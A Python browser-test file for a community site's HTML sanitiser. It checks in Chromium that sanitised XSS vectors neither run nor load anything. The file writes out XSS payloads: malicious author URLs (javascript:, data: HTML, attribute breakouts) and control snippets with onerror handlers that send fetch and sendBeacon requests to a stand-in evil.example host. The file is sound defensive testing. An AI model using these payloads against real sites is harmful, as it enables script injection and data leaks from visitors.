"""Every XSS vector, sanitised as the site publishes it, in a real browser: nothing runs, nothing loads.

One page holds every vector of tests/fixtures/xss/vectors.txt used the
three ways a contribution reaches a page: as its body (through render_body),
as its author's name (HTML-escaped with markupsafe) and as its author's URL
(through clean_url into an href), each contribution in its own <article>
as on the site; plus all of them in a JSON-LD block. Chromium loads the
page from 127.0.0.1 with the harness of tests/browser.py. Control tests
prove that the harness does see a dialog, each hooked call, hover, focus and
beforeunload handlers, a third-party request and a data: document when
there is one.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest
from markupsafe import escape

from browser import browser, serve_directory, visit
from community.sanitize import clean_url, escape_json_for_script, plain_text, render_body
from fixtures.xss import load_vectors

# One worker runs this file: its tests share one browser (README, "For developers").
pytestmark = [pytest.mark.browser]

LOCAL = {"127.0.0.1"}
VECTORS = load_vectors()
# URLs an author could type in the "web site" field of a comment form.
AUTHOR_URLS = [
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x",
    'http://exemple.fr/"onmouseover="alert(1)', "https://exemple.fr/'><script>alert(1)</script>",
    'https://exemple.fr/" autofocus onfocus="alert(1)', "http://user:pass@evil.example/",
    "https://exemple.fr/\\@evil.example/",
]
# The elements and attributes a published body may contain (as the browser parsed them).
ALLOWED_JS = """
(allowed) => {
  const problems = [];
  for (const body of document.querySelectorAll('article .body')) {
    for (const element of body.querySelectorAll('*')) {
      const name = element.localName;
      const attributes = allowed[name];
      if (!attributes) { problems.push(body.parentElement.id + ': <' + name + '>'); continue; }
      for (const attribute of element.getAttributeNames()) {
        if (!attributes.includes(attribute)) problems.push(body.parentElement.id + ': ' + name + '[' + attribute + ']');
      }
    }
  }
  return problems;
}
"""
ALLOWED = {
    "p": [], "br": [], "em": [], "strong": [], "b": [], "i": [], "blockquote": [], "q": [], "cite": [],
    "code": [], "pre": [], "ul": [], "ol": ["start"], "li": [], "del": [], "ins": [], "sub": [], "sup": [],
    "abbr": ["title"], "a": ["href", "title", "rel"], "img": ["src", "alt"],
}


def page(articles: list[str], head: str = "") -> str:
    """A minimal page shaped like the site's article pages."""
    return ("<!doctype html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>Contributions</title>"
            f"<link rel=\"icon\" href=\"/favicon.ico\">{head}</head><body><main><h1>Contributions</h1>\n"
            + "\n".join(articles) + "\n</main><footer id=\"page-end\">fin</footer></body></html>\n")


def contribution(index: int, body_html: str, author: str, author_url: str | None) -> str:
    """One contribution as the site renders it."""
    name = f'<a href="{escape(author_url)}" rel="ugc nofollow noopener">{escape(author)}</a>' if author_url \
        else f"<span>{escape(author)}</span>"
    return (f'<article id="c{index:03d}" class="contribution"><p class="author">{name}</p>'
            f'<div class="body">{body_html}</div><p class="end">fin {index}</p></article>')


def png() -> bytes:
    """A 1×1 transparent PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00\x00")) + chunk(b"IEND", b""))


def write_site(folder: Path, html: str) -> Path:
    """The page, a favicon and the same-site image some vectors use, in a folder to serve."""
    (folder / "favicon.ico").write_bytes(png())
    (folder / "images").mkdir(exist_ok=True)
    (folder / "images" / "ok.png").write_bytes(png())
    (folder / "index.html").write_text(html, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def chromium():
    """One browser for the module's tests (each visit gets its own context)."""
    with browser() as instance:
        yield instance


def test_sanitised_vectors_do_nothing_in_a_browser(tmp_path, chromium):
    articles = []
    for index, vector in enumerate(VECTORS):
        articles.append(contribution(index, render_body(vector, frozenset(LOCAL)), vector, clean_url(vector)))
    offset = len(VECTORS)
    for index, url in enumerate(AUTHOR_URLS, start=offset):
        articles.append(contribution(index, render_body(url, frozenset(LOCAL)), url, clean_url(url)))
    comments = [{"@type": "Comment", "author": {"name": v, "url": clean_url(v)},
                 "text": plain_text(render_body(v, frozenset(LOCAL)))} for v in VECTORS]
    json_ld = f'<script type="application/ld+json">{escape_json_for_script({"comment": comments})}</script>'
    assert len(articles) == len(VECTORS) + len(AUTHOR_URLS)

    with serve_directory(write_site(tmp_path, page(articles, json_ld))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL)

    assert not result.dialogs, result.summary()
    assert not result.calls, result.summary()
    assert not result.popups, result.summary()
    assert not result.script_urls, result.summary()
    assert not result.page_errors, result.summary()
    assert not result.console_errors, result.summary()
    assert not result.third_party, result.summary()
    assert not result.inline_requests, result.summary()
    assert not any("evil.example" in url for url in result.requests), result.summary()
    assert all(url.startswith(base) for url in result.requests), result.summary()


def test_browser_dom_keeps_every_contribution_in_its_container(tmp_path, chromium):
    articles = [contribution(i, render_body(v, frozenset(LOCAL)), v, clean_url(v)) for i, v in enumerate(VECTORS)]

    def inspect(tab):
        return {
            "problems": tab.evaluate(ALLOWED_JS, ALLOWED),
            **tab.evaluate("""() => ({
                articles: document.querySelectorAll('main > article.contribution').length,
                ends: Array.from(document.querySelectorAll('article > p.end'), p => p.parentElement.id),
                footer: document.querySelector('body > footer#page-end') !== null,
            })"""),
        }

    with serve_directory(write_site(tmp_path, page(articles))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL, interact=False, inspect=inspect)
    assert not result.executed and not result.third_party, result.summary()
    assert result.inspection["problems"] == []
    # Each article closes where it should: all are children of <main>, each
    # still ends with its own last paragraph, and the page footer is intact.
    assert result.inspection["articles"] == len(VECTORS)
    assert result.inspection["ends"] == [f"c{i:03d}" for i in range(len(VECTORS))]
    assert result.inspection["footer"]


def test_json_ld_block_round_trips_in_the_browser(tmp_path, chromium):
    data = {"raw": VECTORS, "text": [plain_text(render_body(v)) for v in VECTORS]}
    head = f'<script type="application/ld+json">{escape_json_for_script(data)}</script>'

    def inspect(tab):
        return tab.evaluate("""() => ({
            scripts: document.scripts.length,
            data: JSON.parse(document.querySelector('script[type="application/ld+json"]').textContent),
        })""")

    with serve_directory(write_site(tmp_path, page(["<p>x</p>"], head))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL, interact=False, inspect=inspect)
    assert not result.executed and not result.third_party, result.summary()
    assert result.inspection == {"scripts": 1, "data": data}


# --- controls: the harness is not blind -----------------------------------------------------

def test_control_raw_vector_is_detected(tmp_path, chromium):
    raw = "<img src=x onerror=alert(1)>"
    with serve_directory(write_site(tmp_path, page([contribution(0, raw, "x", None)]))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL)
    assert result.dialogs == ["alert: 1"], result.summary()
    assert [call["name"] for call in result.calls] == ["alert"], result.summary()
    assert result.executed


def test_control_third_party_image_is_recorded_and_blocked(tmp_path, chromium):
    raw = '<img src="http://evil.example/pixel.png" alt="">'
    with serve_directory(write_site(tmp_path, page([contribution(0, raw, "x", None)]))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL)
    assert result.third_party == ["http://evil.example/pixel.png"], result.summary()
    assert not result.executed


def test_control_hover_focus_and_hooked_calls_are_detected(tmp_path, chromium):
    raws = [
        '<p onmouseover="prompt(\'survol\')">survol</p>',
        '<a href="#x" onfocus="confirm(\'focus\')">focus</a>',
        '<span tabindex="-1" onfocus="print()">focus programmatique</span>',
        '<img src=x onerror="fetch(\'http://evil.example/fetch\')">',
        '<img src=x onerror="navigator.sendBeacon(\'http://evil.example/beacon\')">',
        '<img src=x onerror="window.open(\'http://evil.example/popup\')">',
        '<img src=x onerror="document.write(\'x\')">',
        '<img src=x onerror="eval(\'1\')">',
        '<img src=x onerror="var r = new XMLHttpRequest(); r.open(\'GET\', \'/x\')">',
    ]
    articles = [contribution(i, raw, "x", None) for i, raw in enumerate(raws)]
    with serve_directory(write_site(tmp_path, page(articles))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL)
    names = {call["name"] for call in result.calls}
    assert {"prompt", "confirm", "print", "fetch", "navigator.sendBeacon", "open", "document.write", "eval",
            "XMLHttpRequest.open"} <= names, result.summary()
    assert any(d.startswith("prompt: survol") for d in result.dialogs), result.summary()
    assert any(d.startswith("confirm: focus") for d in result.dialogs), result.summary()
    assert "http://evil.example/fetch" in result.third_party, result.summary()


def test_control_inline_documents_and_beforeunload_are_recorded(tmp_path, chromium):
    raws = [
        '<iframe src="data:text/html,&lt;p&gt;x&lt;/p&gt;"></iframe>',
        '<a href="javascript:void(0)">lien</a>',
        '<img src="x" onerror="window.onbeforeunload = () => \'quitter ?\'">',
    ]
    articles = [contribution(i, raw, "x", None) for i, raw in enumerate(raws)]
    with serve_directory(write_site(tmp_path, page(articles))) as base:
        result = visit(chromium, base + "index.html", allowed_hosts=LOCAL)
    assert result.inline_requests == ["data:text/html,<p>x</p>"], result.summary()
    assert result.script_urls == ["iframe[src]=data:text/html,<p>x</p>", "a[href]=javascript:void(0)"], result.summary()
    assert any(d.startswith("beforeunload") for d in result.dialogs), result.summary()


# --- the active-HTML guard, on writers' raw HTML ------------------------------------------------

def _article_html(vector: str) -> str:
    """A vector written in an article's Markdown, as the site's Markdown renders it (raw HTML passes through)."""
    import markdown

    import pelicanconf

    extensions = [name for name in pelicanconf.MARKDOWN["extension_configs"] if name != "blogcore.typography"]
    return markdown.markdown(vector, extensions=extensions, output_format="html5")


def test_every_vector_in_an_article_is_refused_by_the_guard_or_does_nothing_in_a_browser(tmp_path, chromium):
    """Writers' HTML is not sanitised: the guard must refuse whatever a browser would run or load.

    Each vector goes raw into an article; those the guard lets through are each opened in
    chromium on a page of their own (one vector cannot hide another), hovered, focused and clicked:
    none may run anything or request another host.
    """
    from editorial import active

    passed = [vector for vector in VECTORS
              if not (active.find(_article_html(vector)) or active.foreign_loads(_article_html(vector), frozenset()))]
    assert len(passed) < len(VECTORS) // 4, "the guard refuses most of the corpus"
    for index, vector in enumerate(passed):
        write_site(tmp_path, page([contribution(0, _article_html(vector), "x", None)]))
        (tmp_path / f"v{index}.html").write_text((tmp_path / "index.html").read_text(encoding="utf-8"), "utf-8")
    with serve_directory(tmp_path) as base:
        for index, vector in enumerate(passed):
            result = visit(chromium, f"{base}v{index}.html", allowed_hosts=LOCAL, settle_ms=100, max_hover=20)
            assert not (result.executed or result.dialogs or result.calls or result.third_party), result.summary()
            # An image is an image, whatever its address: an SVG in <img> runs no script.
            assert all(url.startswith("img[src]=data:image/") for url in result.script_urls), (vector, result.summary())
